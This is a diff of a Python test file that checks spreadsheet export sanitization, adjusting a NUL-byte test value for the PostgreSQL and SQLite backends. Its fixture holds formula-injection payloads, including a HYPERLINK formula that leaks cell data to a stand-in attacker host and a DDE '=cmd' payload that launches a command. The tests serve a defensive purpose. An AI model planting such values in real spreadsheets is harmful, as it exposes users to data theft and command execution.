@@ -16,12 +16,14 @@ from kla_bot.models import Evidence, Member, Task
 from kla_bot.services import export
 from kla_bot.sheet_cells import EXCEL_CELL_LIMIT, cell_value
 from tests.coordinators.helpers import AHMAD, RINA, pdf_bytes, put_evidence, seed
+from tests.dbs import backend
 
 ID = translator("id")
 HOSTILE = {
     "title": "=1+2",
     "name": '=HYPERLINK("http://evil.example/?leak="&A1,"klik")',
-    "notes": "\x07bell\x00nul\x01 @SUM(1+1)",
+    # PostgreSQL cannot store NUL at all (imports refuse it); SQLite may hold it from old data.
+    "notes": "\x07bell" + ("nul" if backend() == "postgres" else "\x00nul") + "\x01 @SUM(1+1)",
     "reason": "=cmd|' /C calc'!A0",
     "file": "+62812 lampiran.pdf",
     "agency": "-2+3",
